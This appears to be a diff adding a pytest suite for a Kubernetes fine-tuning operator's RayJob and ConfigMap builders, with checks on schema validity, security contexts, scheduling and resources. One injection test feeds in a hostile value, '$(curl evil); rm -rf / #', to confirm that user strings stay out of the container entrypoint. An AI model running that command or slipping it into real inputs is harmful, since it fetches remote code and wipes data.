@@ -1,0 +1,251 @@
+"""RayJob and ConfigMap builders: every example and a table of variants, each checked
+against KubeRay v1.7.0's real CRD schema and for the fields that matter."""
+
+from __future__ import annotations
+
+import json
+
+import kubernetes_validate
+import pytest
+
+from conftest import build_job, example_jobs
+from finetune_operator import builders, naming
+from finetune_operator.api import FineTuneJob, parse_quantity
+from finetune_operator.settings import RayJobDefaults, Settings
+from finetune_trainer.config import JobConfig
+
+SETTINGS = Settings()
+
+VARIANTS = {
+    "defaults": {},
+    "gpu": {"resources": {"worker": {"gpu": 2, "cpu": "8", "memory": "32Gi"}, "acceleratorType": "nvidia-l4"}},
+    "multi-worker": {"resources": {"workers": 6, "worker": {"cpu": "3500m", "memory": "12Gi"}}},
+    "tolerations": {"resources": {
+        "nodeSelector": {"pool": "train"},
+        "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "ml", "effect": "NoSchedule"},
+                        {"operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 30}],
+    }},
+    "kueue": {"scheduling": {"queueName": "team-queue", "priorityClassName": "high"}},
+    "secret-ref": {"output": {"uri": "s3://models/x", "endpoint": "http://minio.storage:9000",
+                              "region": "us-east-1", "secretRef": {"name": "s3-creds"}}},
+    "suspend": {"scheduling": {"suspend": True, "activeDeadlineSeconds": 7200, "backoffLimit": 3,
+                               "ttlSecondsAfterFinished": 0}},
+    "shared-memory": {"resources": {"sharedMemory": "3Gi", "image": "registry.local/trainer:dev"}},
+}
+LONG_NAMES = ["a" * 253, "x" * 47, "x" * 48, "v1.2.release-candidate." + "z" * 60, "9lives"]
+
+
+def _cases() -> list[tuple[str, dict, object]]:
+    cases = []
+    for case_id, document in example_jobs():
+        job = FineTuneJob.model_validate(document)
+        cases.append((case_id, document, job.spec))
+    for variant, overrides in VARIANTS.items():
+        job_obj, spec = build_job(**overrides)
+        cases.append((variant, job_obj, spec))
+    for name in LONG_NAMES:
+        job_obj, spec = build_job(name=name)
+        cases.append((f"name-{len(name)}-{name[:6]}", job_obj, spec))
+    return cases
+
+
+CASES = _cases()
+
+
+def test_every_example_is_covered():
+    assert len([c for c in CASES if "#" in c[0]]) >= 6, "examples/ should hold the six example manifests"
+
+
+@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
+def test_rayjob_matches_kuberay_schema(case_id, job_obj, spec, rayjob_validator):
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    errors = sorted(rayjob_validator.iter_errors(rayjob), key=lambda e: list(e.absolute_path))
+    assert not errors, "\n".join(f"{'.'.join(map(str, e.absolute_path))}: {e.message}" for e in errors[:10])
+
+
+@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
+def test_rayjob_shape(case_id, job_obj, spec):
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    meta = job_obj["metadata"]
+    name = rayjob["metadata"]["name"]
+    assert len(name) <= naming.MAX_RAYJOB_NAME and naming.is_dns1035_label(name)
+    assert rayjob["metadata"]["namespace"] == meta["namespace"]
+    assert rayjob["metadata"]["ownerReferences"] == [{
+        "apiVersion": "finetune.dev/v1alpha1", "kind": "FineTuneJob", "name": meta["name"],
+        "uid": meta["uid"], "controller": True, "blockOwnerDeletion": True,
+    }]
+    labels = rayjob["metadata"]["labels"]
+    assert labels[naming.MANAGED_BY_LABEL] == "finetune-operator"
+    assert labels[naming.JOB_UID_LABEL] == meta["uid"]
+    assert all(len(v) <= 63 for v in labels.values())
+
+    body = rayjob["spec"]
+    assert body["entrypoint"] == "python -m finetune_trainer --config /etc/finetune/job.json"
+    assert body["shutdownAfterJobFinishes"] is True
+    assert body["backoffLimit"] == spec.scheduling.backoffLimit
+    assert body.get("activeDeadlineSeconds") == spec.scheduling.activeDeadlineSeconds
+    expected_ttl = spec.scheduling.ttlSecondsAfterFinished
+    assert body["ttlSecondsAfterFinished"] == (expected_ttl if expected_ttl is not None else 60)
+    assert body["suspend"] == (spec.scheduling.suspend or bool(spec.scheduling.queueName))
+
+    cluster = body["rayClusterSpec"]
+    assert cluster["rayVersion"] == SETTINGS.rayjob.ray_version
+    [group] = cluster["workerGroupSpecs"]
+    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == spec.resources.workers
+
+    head_pod = cluster["headGroupSpec"]["template"]["spec"]
+    worker_pod = group["template"]["spec"]
+    [head] = head_pod["containers"]
+    [worker] = worker_pod["containers"]
+    image = spec.resources.image or SETTINGS.default_image
+    assert head["image"] == worker["image"] == image
+
+    worker_limits = worker["resources"]["limits"]
+    assert worker["resources"]["requests"] == worker_limits
+    assert worker_limits["cpu"] == spec.resources.worker.cpu
+    assert worker_limits["memory"] == spec.resources.worker.memory
+    assert worker_limits.get("nvidia.com/gpu", 0) == spec.resources.worker.gpu
+    assert "nvidia.com/gpu" not in head["resources"]["limits"]
+    assert head["resources"]["limits"] == {"cpu": spec.resources.head.cpu, "memory": spec.resources.head.memory}
+
+    # The job's config reaches the head pod only through the ConfigMap.
+    config_volume = next(v for v in head_pod["volumes"] if v["name"] == builders.CONFIG_VOLUME)
+    assert config_volume["configMap"]["name"] == naming.configmap_name(meta["name"])
+    assert {"name": builders.CONFIG_VOLUME, "mountPath": "/etc/finetune", "readOnly": True} in head["volumeMounts"]
+    assert all(v["name"] != builders.CONFIG_VOLUME for v in worker_pod["volumes"])
+
+    for pod, container in ((head_pod, head), (worker_pod, worker)):
+        shm = next(v for v in pod["volumes"] if v["name"] == builders.SHM_VOLUME)
+        assert shm["emptyDir"]["medium"] == "Memory"
+        assert {"name": builders.SHM_VOLUME, "mountPath": "/dev/shm"} in container["volumeMounts"]
+        security = container["securityContext"]
+        assert security["runAsNonRoot"] is True
+        assert security["allowPrivilegeEscalation"] is False
+        assert security["capabilities"] == {"drop": ["ALL"]}
+        assert pod.get("priorityClassName") == spec.scheduling.priorityClassName
+        if spec.output.secretRef is not None:
+            assert container["envFrom"] == [{"secretRef": {"name": spec.output.secretRef.name}}]
+        else:
+            assert "envFrom" not in container
+
+    # Placement applies to workers; the head needs no GPU node.
+    selector = dict(spec.resources.nodeSelector)
+    if spec.resources.acceleratorType:
+        selector["cloud.google.com/gke-accelerator"] = spec.resources.acceleratorType
+    assert worker_pod.get("nodeSelector", {}) == selector
+    assert "nodeSelector" not in head_pod and "tolerations" not in head_pod
+    for toleration in spec.resources.tolerations:
+        assert toleration.model_dump(exclude_none=True) in worker_pod["tolerations"]
+
+
+@pytest.mark.parametrize(("case_id", "job_obj", "spec"), CASES, ids=[c[0] for c in CASES])
+def test_configmap_holds_the_jobconfig(case_id, job_obj, spec):
+    configmap = builders.build_configmap(job_obj, spec, SETTINGS)
+    meta = job_obj["metadata"]
+    assert configmap["metadata"]["name"] == naming.configmap_name(meta["name"])
+    assert naming.is_dns1123_label(configmap["metadata"]["name"])
+    assert configmap["metadata"]["ownerReferences"][0]["uid"] == meta["uid"]
+    config = JobConfig.model_validate(json.loads(configmap["data"]["job.json"]))
+    assert config == spec.job_config(naming.run_name(meta["namespace"], meta["name"]))
+    # Credentials never reach the config: only the Secret's name travels, via envFrom.
+    assert "secretRef" not in configmap["data"]["job.json"]
+    kubernetes_validate.validate(configmap, "1.37", strict=True)
+
+
+def test_user_strings_never_reach_the_entrypoint(make_job):
+    hostile = "$(curl evil); rm -rf / #"
+    job_obj, spec = make_job(data={"train": f"s3://b/{hostile}", "textColumn": hostile})
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    assert hostile not in rayjob["spec"]["entrypoint"]
+    assert hostile not in json.dumps(rayjob)
+    assert hostile in builders.build_configmap(job_obj, spec, SETTINGS)["data"]["job.json"]
+
+
+def test_gpu_workers_tolerate_the_gpu_taint_once(make_job):
+    taint = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
+    job_obj, spec = make_job(resources={"worker": {"gpu": 1}, "tolerations": [taint]})
+    pod = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]
+    assert pod["spec"]["tolerations"] == [taint]
+    job_obj, spec = make_job()
+    pod = builders.build_rayjob(job_obj, spec, SETTINGS)["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]
+    assert "tolerations" not in pod["spec"]
+
+
+def test_kueue_jobs_are_labelled_and_created_suspended(make_job):
+    job_obj, spec = make_job(scheduling={"queueName": "gpu-queue"})
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    assert rayjob["metadata"]["labels"][naming.KUEUE_QUEUE_LABEL] == "gpu-queue"
+    assert rayjob["spec"]["suspend"] is True
+    job_obj, spec = make_job()
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    assert naming.KUEUE_QUEUE_LABEL not in rayjob["metadata"]["labels"]
+    assert rayjob["spec"]["suspend"] is False
+
+
+@pytest.mark.parametrize(("memory", "shared", "ratio", "expected"), [
+    ("8Gi", None, 0.25, "2048Mi"),
+    ("1Gi", None, 0.5, "512Mi"),
+    ("3G", None, 0.25, "716Mi"),
+    ("8Gi", "1Gi", 0.25, "1Gi"),
+])
+def test_shm_size(memory, shared, ratio, expected):
+    settings = Settings(rayjob=RayJobDefaults(shm_ratio=ratio))
+    assert builders.shm_size(memory, shared, settings) == expected
+    if shared is None:
+        assert parse_quantity(expected) >= parse_quantity(memory) * ratio
+
+
+def test_settings_shape_the_rayjob(make_job):
+    settings = Settings(
+        default_image="registry.local/trainer:1", default_s3_endpoint="http://minio:9000", default_s3_region="eu-1",
+        rayjob=RayJobDefaults(ray_version="2.61.0", service_account="ray-runner", ttl_seconds_after_finished=5,
+                              pre_running_deadline_seconds=600, run_as_user=4242, accelerator_node_label=None),
+    )
+    job_obj, spec = make_job(resources={"worker": {"gpu": 1}, "acceleratorType": "a100"})
+    rayjob = builders.build_rayjob(job_obj, spec, settings)
+    body = rayjob["spec"]
+    assert body["rayClusterSpec"]["rayVersion"] == "2.61.0"
+    assert body["ttlSecondsAfterFinished"] == 5
+    assert body["preRunningDeadlineSeconds"] == 600
+    worker_pod = body["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]
+    assert worker_pod["serviceAccountName"] == "ray-runner"
+    assert "nodeSelector" not in worker_pod
+    [worker] = worker_pod["containers"]
+    assert worker["image"] == "registry.local/trainer:1"
+    assert worker["securityContext"]["runAsUser"] == 4242
+    env = {e["name"]: e["value"] for e in worker["env"]}
+    assert env["AWS_ENDPOINT_URL"] == "http://minio:9000"
+    assert env["AWS_REGION"] == "eu-1"
+    assert env["FINETUNE_RUN_NAME"] == "team-a-reviews"
+    submitter = body["submitterPodTemplate"]["spec"]
+    assert submitter["serviceAccountName"] == "ray-runner"
+    assert submitter["containers"][0]["image"] == "registry.local/trainer:1"
+
+
+def test_builders_are_deterministic(make_job):
+    job_obj, spec = make_job(name="same")
+    assert builders.build_rayjob(job_obj, spec, SETTINGS) == builders.build_rayjob(job_obj, spec, SETTINGS)
+    assert builders.build_configmap(job_obj, spec, SETTINGS) == builders.build_configmap(job_obj, spec, SETTINGS)
+
+
+def test_a_job_object_without_uid_is_refused(make_job):
+    job_obj, spec = make_job()
+    del job_obj["metadata"]["uid"]
+    with pytest.raises(ValueError, match="metadata.uid"):
+        builders.build_rayjob(job_obj, spec, SETTINGS)
+
+
+@pytest.mark.parametrize("breakage", ["misspelt-field", "bad-type", "missing-group-name"])
+def test_schema_check_catches_mistakes(breakage, make_job, rayjob_validator):
+    """The schema check itself can fail: unknown fields, wrong types, missing
+    required fields are all reported."""
+    job_obj, spec = make_job()
+    rayjob = builders.build_rayjob(job_obj, spec, SETTINGS)
+    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
+    if breakage == "misspelt-field":
+        group["template"]["spec"]["containers"][0]["volumeMount"] = []
+    elif breakage == "bad-type":
+        group["replicas"] = "2"
+    else:
+        del group["groupName"]
+    assert list(rayjob_validator.iter_errors(rayjob))
